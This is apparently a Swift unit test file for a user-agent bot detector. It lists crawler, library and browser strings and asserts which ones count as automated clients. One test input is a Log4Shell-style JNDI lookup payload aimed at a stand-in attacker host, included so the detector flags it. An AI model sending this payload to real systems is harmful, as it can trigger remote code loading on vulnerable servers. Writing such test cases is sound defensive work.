import Testing

@testable import Ingestion

@Suite struct BotDetectionTests {
  private func isBot(_ userAgent: String) -> Bool { ExplainUserAgent.line(userAgent: userAgent).isBot }

  @Test(arguments: [
    "Mozilla/5.0 (compatible; ExampleBot/1.0; +https://bot.example/about)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Examplebot/2.1) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
      + "Chrome/131.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ChatGPT-User/1.0; +https://openai.com/bot)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "WhatsApp/2.24.1 A",
    "curl/8.5.0", "python-requests/2.32.3", "Go-http-client/2.0", "okhttp/4.12.0", "node", "Mozilla/5.0", "Mozilla/4.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
      + "Safari/537.36 Chrome-Lighthouse", "ExampleWatch 3", "${jndi:ldap://attacker.example/a}",
    "\"Mozilla/5.0 (compatible; Example)\"",
  ])
  func `a program is a bot`(_ userAgent: String) { #expect(isBot(userAgent)) }

  @Test(arguments: [
    "Mozilla/5.0 (Linux; Android 13; CUBOT P60) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile "
      + "Safari/537.36",
    "Mozilla/5.0 (Linux; Android 9; CUBOT_X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.0.0 Mobile "
      + "Safari/537.36",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Embedded Web Browser from: http://bsalsa.com/)",
    "Mozilla/5.0 (compatible; Konqueror/4.14; Linux) KHTML/4.14.2 (like Gecko)",
    "Mozilla/5.0 (Linux; Android 8.0; MAJESTIC One) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.0.0 Mobile "
      + "Safari/537.36",
    "ExamplePhone61D/1.0 MAUI/Example;WAP Browser/MAUI ;INDEX/004;MBOUNCE/002",
    "Mozilla/5.0 (Linux; arm_64; Android 14; Example) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
      + "YaSearchBrowser/24.60 BroPP/1.0 YaSearchApp/24.60 webOmni SA/3 Mobile Safari/537.36",
    "Safari/19618.1 CFNetwork/1494.0.7 Darwin/23.4.0", "",
  ])
  func `a person is no bot`(_ userAgent: String) { #expect(!isBot(userAgent)) }

  @Test func `a bot word beside an exempted one counts`() {
    #expect(
      isBot(
        "Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.0.0 Mobile "
          + "Safari/537.36 (compatible; Examplebot/1.0)"))
  }

  @Test func `the explanation names the word`() {
    let line = ExplainUserAgent.line(userAgent: "Mozilla/5.0 (Windows NT 10.0) ExampleCrawler/1.0")
    #expect(line.deviceType == "bot")
    #expect(line.because == "contains a word of automatic clients: Crawl")
  }

  @Test func `a television has no device type`() {
    let line = ExplainUserAgent.line(userAgent: UserAgentCases.deviceless[0].userAgent)
    #expect(line.deviceType == nil)
    #expect(!line.isBot)
  }
}
